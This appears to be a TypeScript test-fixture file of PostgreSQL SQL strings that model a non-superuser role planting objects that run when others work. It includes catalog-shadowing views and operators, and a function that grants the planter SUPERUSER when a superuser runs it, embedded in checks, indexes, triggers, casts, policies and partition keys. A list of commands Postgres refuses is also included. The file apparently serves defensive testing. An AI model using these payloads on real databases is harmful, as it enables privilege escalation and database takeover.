// What a role that is no superuser plants where others will work.

/**
 * Operators and functions that fit better than the system's what is called with such types, views of the names of catalogs,
 * types of the names of types; each fails, and says for whom.
 */
export const PLANT = `
  DO $plant$ DECLARE o text; f text; a text; b text; BEGIN
    CREATE SCHEMA IF NOT EXISTS planted;
    CREATE FUNCTION public.planted() RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN RAISE EXCEPTION 'planted code ran'; END $$;
    FOR a IN SELECT relname FROM pg_class WHERE relnamespace = 'pg_catalog'::regnamespace AND relkind IN ('r', 'v') LOOP
      EXECUTE format('CREATE VIEW public.%I AS SELECT public.planted()', a);
    END LOOP;
    FOR a IN SELECT typname FROM pg_type WHERE typnamespace = 'pg_catalog'::regnamespace AND typtype = 'b' AND typelem = 0 LOOP
      EXECUTE format('CREATE DOMAIN public.%I AS pg_catalog.text CHECK (public.planted())', a);
    END LOOP;
    FOREACH a IN ARRAY '{oid,int4,int8,name,text,"char",xid,xid8,regclass,pg_snapshot,text[],int4[]}'::text[] LOOP
      FOREACH b IN ARRAY '{oid,int4,int8,name,text,"char",xid,xid8,regclass,text[],int4[]}'::text[] LOOP
        EXECUTE format('CREATE FUNCTION public.planted(%s, %s) RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN RAISE EXCEPTION ''planted code ran''; END $$', a, b);
        FOREACH o IN ARRAY '{=,<>,<,>,<=,>=,~,!~,~~,!~~}'::text[] LOOP
          IF to_regoperator(format('pg_catalog.%s(%s,%s)', o, a, b)) IS NULL THEN
            EXECUTE format('CREATE OPERATOR public.%s (FUNCTION = public.planted, LEFTARG = %s, RIGHTARG = %s)', o, a, b);
          END IF;
        END LOOP;
        FOREACH f IN ARRAY '{set_config,current_setting,starts_with,format,concat_ws,pg_visible_in_snapshot,string_agg,left,repeat,has_table_privilege,pg_advisory_lock,pg_try_advisory_lock}'::text[] LOOP
          IF to_regprocedure(format('pg_catalog.%s(%s,%s)', f, a, b)) IS NULL THEN
            EXECUTE format('CREATE FUNCTION public.%s(%s, %s) RETURNS text LANGUAGE plpgsql AS $$ BEGIN RAISE EXCEPTION ''planted code ran''; END $$', f, a, b);
          END IF;
        END LOOP;
      END LOOP;
      FOREACH f IN ARRAY '{md5,length,quote_ident,age,to_regclass,to_regnamespace,current_setting,pg_get_userbyid,upper,lo_create,lo_unlink,to_jsonb,pg_sequence_last_value,pg_database_size,aclexplode,unnest,count}'::text[] LOOP
        IF to_regprocedure(format('pg_catalog.%s(%s)', f, a)) IS NULL THEN
          EXECUTE format('CREATE FUNCTION public.%s(%s) RETURNS text LANGUAGE plpgsql AS $$ BEGIN RAISE EXCEPTION ''planted code ran''; END $$', f, a);
        END IF;
      END LOOP;
    END LOOP;
  END $plant$`;

/** Has a superuser who executes it make the planter one. */
const CODE = `
  CREATE SCHEMA planted; GRANT USAGE ON SCHEMA planted TO PUBLIC;
  CREATE FUNCTION planted.rise(a text) RETURNS text LANGUAGE plpgsql AS $$ BEGIN
    IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN ALTER ROLE planter SUPERUSER; END IF; RETURN a; END $$;
  CREATE FUNCTION planted.code(a text) RETURNS text IMMUTABLE LANGUAGE plpgsql AS $$ BEGIN RETURN planted.rise(a); END $$;`;
const ROWS = `INSERT INTO planted.bait VALUES ('a'), ('b')`;
const TABLE = `CREATE TABLE planted.bait (v text)`;

/** By kind; each has a table whose rows the planter deletes, for somebody to write back. */
export const ATTACKS = {
  'the CHECK of a table': `${CODE} CREATE TABLE planted.bait (v text CHECK (planted.code(v) IS NOT NULL)); ${ROWS}`,
  'the expression of an index': `${CODE} CREATE TABLE planted.bait (v text); CREATE INDEX ON planted.bait (planted.code(v)); ${ROWS}`,
  'a generated column': `${CODE} CREATE TABLE planted.bait (v text, g text GENERATED ALWAYS AS (planted.code(v)) STORED); ${ROWS}`,
  'the CHECK of a domain': `${CODE} CREATE DOMAIN planted.kind AS text CHECK (planted.code(VALUE) IS NOT NULL); CREATE TABLE planted.bait (v planted.kind); ${ROWS}`,
  'a cast': `${CODE} CREATE TABLE planted.bait (v text); ${ROWS};
    CREATE FUNCTION planted.as_text(planted.bait) RETURNS text LANGUAGE sql AS 'SELECT planted.rise($1.v)'; CREATE CAST (planted.bait AS text) WITH FUNCTION planted.as_text(planted.bait) AS IMPLICIT;
    CREATE FUNCTION planted.from_text(text) RETURNS planted.bait LANGUAGE sql AS 'SELECT planted.rise($1)'; CREATE CAST (text AS planted.bait) WITH FUNCTION planted.from_text(text)`,
  'a trigger, a default, a rule and a policy': `${CODE}
    CREATE TABLE planted.bait (v text, d text DEFAULT planted.rise('d')); ${ROWS}; CREATE TABLE planted.log (v text);
    CREATE FUNCTION planted.fire() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM planted.rise('x'); RETURN NEW; END $$;
    CREATE TRIGGER fire BEFORE INSERT ON planted.bait FOR EACH ROW EXECUTE FUNCTION planted.fire(); ALTER TABLE planted.bait ENABLE ALWAYS TRIGGER fire;
    CREATE RULE rule AS ON INSERT TO planted.bait DO ALSO INSERT INTO planted.log VALUES (planted.rise('x')); ALTER TABLE planted.bait ENABLE ALWAYS RULE rule;
    ALTER TABLE planted.bait ENABLE ROW LEVEL SECURITY; CREATE POLICY policy ON planted.bait USING (planted.rise(v) IS NOT NULL)`,
} as const;

/** More of them, which need no function of the planter's in the table itself. */
export const SLY_ATTACKS = {
  'an operator': `${CODE} CREATE FUNCTION planted.same(text, text) RETURNS boolean LANGUAGE sql AS 'SELECT planted.code($1) = $2';
    CREATE OPERATOR planted.=== (FUNCTION = planted.same, LEFTARG = text, RIGHTARG = text);
    CREATE TABLE planted.bait (v text CHECK (v OPERATOR(planted.===) v)); ${ROWS}`,
  'a function of Postgres that runs SQL': `${CODE}
    CREATE TABLE planted.bait (v text CHECK (query_to_xml('SELECT planted.rise(''x'')', true, true, '') IS NOT NULL)); ${ROWS}`,
  'a domain that an expression casts to': `${CODE} CREATE DOMAIN planted.kind AS text CHECK (planted.code(VALUE) IS NOT NULL);
    CREATE TABLE planted.bait (v text CHECK ((v::planted.kind) IS NOT NULL)); ${ROWS}`,
  'an array of a domain': `${CODE} CREATE DOMAIN planted.kind AS text CHECK (planted.code(VALUE) IS NOT NULL);
    CREATE TABLE planted.bait (v planted.kind[]); INSERT INTO planted.bait VALUES ('{a}'), ('{b}')`,
  'a partition key': `${CODE} CREATE TABLE planted.bait (v text) PARTITION BY LIST (planted.code(v));
    CREATE TABLE planted.leaf PARTITION OF planted.bait FOR VALUES IN ('a', 'b'); ${ROWS}`,
  'the condition of an index': `${CODE} ${TABLE}; CREATE INDEX ON planted.bait (v) WHERE planted.code(v) <> ''; ${ROWS}`,
  'a range that measures its distances': `${CODE} CREATE FUNCTION planted.far(a text, b text) RETURNS float8 IMMUTABLE LANGUAGE sql AS 'SELECT length(planted.code($1))::float8';
    CREATE TYPE planted.span AS RANGE (subtype = text, subtype_diff = planted.far);
    CREATE TABLE planted.bait (v planted.span); CREATE INDEX ON planted.bait USING gist (v);
    INSERT INTO planted.bait SELECT planted.span(g::text, (g + 1)::text, '[]') FROM generate_series(100, 900) g`,
} as const;

/** A table of the planter's that executes nothing of the planter's. */
export const HARMLESS = `CREATE TYPE public.mood AS ENUM ('sad', 'ok');
  CREATE TABLE public.plain (id int PRIMARY KEY, v text NOT NULL UNIQUE CHECK (length(v) > 0 AND v NOT IN ('x', 'y') OR v ~ '^z'), m public.mood,
    n numeric(10, 2) CHECK (n >= 0 AND n < 1000::numeric AND CASE WHEN n > 5 THEN v <> '' ELSE coalesce(n, 0) >= 0 END),
    l int[] CHECK (l[1] > 0 AND l IS NOT NULL), g text GENERATED ALWAYS AS (upper(v) || id::text) STORED);
  CREATE INDEX ON public.plain (lower(v)) WHERE n > 1;
  INSERT INTO public.plain VALUES (1, 'a', 'ok', 2, '{1}'), (2, 'b', NULL, 3, '{2}')`;

/** The same attack in the schema public. */
export function inPublic(attack: string): string {
  return attack.replace(/CREATE SCHEMA planted;.*/, '').replaceAll('planted.', 'public.');
}

/** What Postgres lets only superusers, or owners, do. */
export const REFUSED: readonly string[] = [
  `CREATE FUNCTION pg_temp.f() RETURNS event_trigger LANGUAGE plpgsql AS $$ BEGIN END $$; CREATE EVENT TRIGGER e ON login EXECUTE FUNCTION pg_temp.f()`,
  `CREATE FUNCTION pg_temp.f() RETURNS event_trigger LANGUAGE plpgsql AS $$ BEGIN END $$; CREATE EVENT TRIGGER e ON ddl_command_end EXECUTE FUNCTION pg_temp.f()`,
  `CREATE OPERATOR CLASS public.ops DEFAULT FOR TYPE text USING hash AS FUNCTION 1 hashtext(text)`,
  `CREATE CAST (text AS int8) WITH INOUT AS IMPLICIT`,
  `CREATE FUNCTION public.f() RETURNS int LANGUAGE c AS 'x', 'f'`,
  `CREATE FUNCTION pg_catalog.f() RETURNS int LANGUAGE sql AS 'SELECT 1'`,
  `CREATE RULE planted AS ON SELECT TO pg_catalog.pg_largeobject DO INSTEAD SELECT 1`,
  `ALTER ROLE one SET search_path = planted`,
  `ALTER ROLE one SET local_preload_libraries = 'x'`,
  `ALTER ROLE ALL SET search_path = planted`,
  `ALTER DATABASE template1 SET search_path = planted`,
  `ALTER DATABASE postgres SET search_path = planted`,
  `ALTER ROLE planter SET session_preload_libraries = 'x'`,
  `ALTER SYSTEM SET local_preload_libraries = 'x'`,
  `ALTER DEFAULT PRIVILEGES FOR ROLE one GRANT ALL ON TABLES TO planter`,
];
